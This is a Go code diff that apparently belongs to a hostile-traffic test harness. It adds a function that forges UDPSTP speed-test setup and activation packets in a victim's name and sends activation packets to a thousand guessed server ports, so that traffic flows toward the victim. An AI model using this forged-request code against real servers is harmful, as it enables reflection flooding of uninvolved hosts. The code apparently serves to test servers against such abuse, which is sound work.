@@ -1,6 +1,7 @@
 package main
 
 import (
+	"bytes"
 	"context"
 	"crypto/rand"
 	ctls "crypto/tls"
@@ -201,6 +202,34 @@ func (h *hostile) forgedIperf2(ctx context.Context) {
 	}
 	final := endian.BigEndian.AppendUint32(nil, 0xfffffff0) // a negative number ends a test
 	h.forge(ctx, "iperf2", append(all, append(final, make([]byte, 1466)...))...)
+}
+
+// forgedUDPSTP asks a UDPSTP server for flows in the victim's name, and activates them at
+// ports that it guesses, downstream at the highest row (docs/wire/udpstp.md).
+func (h *hostile) forgedUDPSTP(ctx context.Context) {
+	setup := make([]byte, 56)
+	activation := make([]byte, 104)
+	copy(activation, "\xAC\xE2\x00\x14\x02\x00\x00\x1e\x00\x5a\x00\x32\x00\x3c\x00\x00\x04\x80")
+	var all [][]byte
+	for index := range byte(16) {
+		copy(setup, "\xAC\xE1\x00\x14")
+		setup[4], setup[5], setup[8], setup[14] = index, 16, 1, 1
+		_, _ = rand.Read(setup[6:8])
+		all = append(all, bytes.Clone(setup))
+	}
+	h.forge(ctx, "udpstp", append(all, activation)...)
+	d := net.ListenConfig{}
+	c, err := d.ListenPacket(ctx, "udp", net.JoinHostPort(h.Victim.String(), "0"))
+	if err != nil {
+		return
+	}
+	defer func() { _ = c.Close() }()
+	for range 1000 {
+		to := &net.UDPAddr{IP: net.ParseIP(h.Server), Port: 32768 + mathrand.IntN(28232)} // ip-sysctl, ip_local_port_range
+		if n, err := c.WriteTo(activation, to); err == nil {
+			atomic.AddInt64(&h.done.Forged, int64(n))
+		}
+	}
 }
 
 // firstWords are what real clients say first, by listener.
